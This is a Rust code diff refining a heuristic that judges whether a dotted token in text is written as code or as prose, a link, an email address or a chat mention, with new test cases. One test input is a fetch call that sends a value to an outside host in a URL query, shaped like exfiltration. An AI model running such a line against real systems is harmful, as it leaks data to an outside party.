@@ -86,8 +86,7 @@ pub fn written_as_code(view: &str, value: &str) -> bool {
             .filter(|l| i < l.end)
         {
             let so_far = &view[lit.start..i];
-            let interpolated = lit.interpolates
-                && before.ends_with('{')
+            let interpolated = lit.interpolation.is_some_and(|open| before.ends_with(open))
                 && past_the_name(after).starts_with(['}', '(', '[']);
             if !interpolated || linked(so_far) {
                 return false;
@@ -111,12 +110,13 @@ pub fn written_as_code(view: &str, value: &str) -> bool {
     seen
 }
 
-/// A string literal of code: its content's byte range, and whether it
-/// interpolates (`f"…"`, a JavaScript template).
+/// A string literal of code: its content's byte range, and
+/// what opens an interpolation in it (`f"…"`, a JavaScript template).
 struct Literal {
     start: usize,
     end: usize,
-    interpolates: bool,
+    /// What opens an interpolation in it: `${` in a template, `{` in an f-string.
+    interpolation: Option<&'static str>,
 }
 
 /// The string literals of `view`, read once from its start: `"…"`, `'…'`
@@ -134,11 +134,24 @@ fn literals(view: &str) -> Vec<Literal> {
             continue;
         }
         let triple = q != b'`' && b[j..].starts_with(&[q, q, q]);
-        let prefix = &b[j.saturating_sub(2)..j];
-        let f_string = prefix.last().is_some_and(|p| matches!(p, b'f' | b'F'))
-            || (prefix.len() == 2
-                && matches!(prefix[0], b'f' | b'F')
-                && matches!(prefix[1], b'r' | b'R'));
+        // `f"`, `rf"`, `fr"` as a word of their own (`Jeff's` is no f-string).
+        let f_string = [1, 2].iter().any(|&n| {
+            let Some(p) = j.checked_sub(n).map(|s| &b[s..j]) else {
+                return false;
+            };
+            let is_prefix = match p {
+                [f] => matches!(f, b'f' | b'F'),
+                [a, c] => matches!(
+                    (a.to_ascii_lowercase(), c.to_ascii_lowercase()),
+                    (b'r', b'f') | (b'f', b'r')
+                ),
+                _ => false,
+            };
+            is_prefix
+                && !j
+                    .checked_sub(n + 1)
+                    .is_some_and(|k| b[k].is_ascii_alphanumeric() || b[k] == b'_')
+        });
         let start = j + if triple { 3 } else { 1 };
         let mut k = start;
         let (end, next) = loop {
@@ -157,7 +170,11 @@ fn literals(view: &str) -> Vec<Literal> {
         out.push(Literal {
             start,
             end,
-            interpolates: q == b'`' || f_string,
+            interpolation: match q {
+                b'`' => Some("${"),
+                _ if f_string => Some("{"),
+                _ => None,
+            },
         });
         j = next.max(j + 1);
     }
@@ -180,12 +197,9 @@ fn linked(text: &str) -> bool {
         || text.contains("mailto:")
         || text.contains("\\\\")
         || text.contains(":\\")
-        || text.match_indices("//").any(|(k, _)| {
-            text[k + 2..]
-                .split(char::is_whitespace)
-                .next()
-                .is_some_and(|w| w.contains('.'))
-        })
+        || text
+            .split_whitespace()
+            .any(|w| w.find("//").is_some_and(|k| w[k + 2..].contains('.')))
 }
 
 /// Whether the occurrence is inside a link or a network path: a link character
@@ -198,7 +212,8 @@ fn in_link(before: &str, line: &str) -> bool {
         .find(|(_, c)| c.is_whitespace())
         .map_or(0, |(w, c)| w + c.len_utf8());
     let word = &line[word_start..];
-    if (word != "@" && word.contains(['/', '?', '&', '#', '%', '@'])) || linked(line) {
+    let decorator_at = word == "@" && line.trim_start() == "@";
+    if (!decorator_at && word.contains(['/', '?', '&', '#', '%', '@'])) || linked(line) {
         return true;
     }
     if !line.trim().is_empty() {
@@ -211,24 +226,21 @@ fn in_link(before: &str, line: &str) -> bool {
         Some(prev) => prev
             .split_whitespace()
             .next_back()
-            .is_some_and(|w| w.contains(['/', '?', '&', '#', '%', '@'])),
+            .is_some_and(|w| w.contains(['/', '?', '&', '#', '%'])),
         None => true,
     }
 }
 
-/// `alice.smith(ceo)@ev.io`, `alice.smith(at)corp.com`, `alice.smith(c) @ev.io`:
+/// `alice.smith(ceo)@ev.io`, `alice.smith(at)corp.com`, `alice.smith(c) x @ev.io`:
 /// an address, on the occurrence's line.
 fn in_address(after: &str) -> bool {
     let after = after.split('\n').next().unwrap_or_default();
     let rest_of_word = after.split(char::is_whitespace).next().unwrap_or_default();
-    let next_word = after
-        .trim_start_matches(|c: char| !c.is_whitespace())
-        .trim_start();
     let lower = rest_of_word.to_ascii_lowercase();
     rest_of_word.contains('@')
         || lower.contains("(at)")
         || lower.contains("[at]")
-        || next_word.starts_with('@')
+        || after.split_whitespace().skip(1).any(|w| w.starts_with('@'))
 }
 
 /// The largest character boundary of `s` at or below `i`.
@@ -303,7 +315,8 @@ fn past_alias(rest: &str) -> &str {
 }
 
 /// Whether a chain's occurrence is written as code: called, indexed, an
-/// argument of a call, interpolated, a decorator, or named by an import.
+/// argument of a call, a decorator, or named by an import (an interpolation is a
+/// string literal's: [`written_as_code`]).
 fn chain_as_code(before: &str, line: &str, after: &str, dotted: bool, at_sign: bool) -> bool {
     // A decorator (`@app.route("/")`, `@st.cache_data`): its line, then any
     // other decorators, then what it decorates; a chat's `@alice.smith` is none.
@@ -347,7 +360,6 @@ fn chain_as_code(before: &str, line: &str, after: &str, dotted: bool, at_sign: b
     statement
         || rest.starts_with(['(', '['])
         || (rest.starts_with([')', ',']) && in_call_arguments(before))
-        || (rest.starts_with('}') && before.ends_with('{'))
 }
 
 #[cfg(test)]
@@ -432,6 +444,7 @@ mod tests {
                 "@st.cache_data\n@other\nasync def load(): ...",
                 "@st.cache_data",
             ),
+            ("@other\n@st.cache_data\ndef load(): ...", "@st.cache_data"),
             ("@app.route(\"/x\")\ndef index(): ...", "app.route"),
             ("print(f\"{event.data}\")", "event.data"),
             ("log(`got ${event.data.length}`)", "event.data"),
@@ -489,7 +502,7 @@ mod tests {
                 "amber.falcon.river",
             ),
             (
-                "fetch(`https://ev.io/?u=${amber.falcon.river()}`)",
+                "fetch(`https://ev.io/?u=\n${amber.falcon.river()}`)",
                 "amber.falcon.river",
             ),
             // Links: protocol-relative, cut by a line break.
@@ -506,6 +519,11 @@ mod tests {
                 "amber.falcon.river",
             ),
             ("Heads up\n@alice.smith(ceo) can you sync?", "@alice.smith"),
+            ("Hi @alice.smith(ceo) can you sync?", "alice.smith"),
+            ("alice.smith(c) x @ev.io", "alice.smith"),
+            ("Jeff's key is {amber.falcon.river}", "amber.falcon.river"),
+            ("The password is {amber.falcon.river}", "amber.falcon.river"),
+            ("see `{amber.falcon.river}` above", "amber.falcon.river"),
             // Written once as code and once not.
             (
                 "chat.completions.create(); say chat.completions",
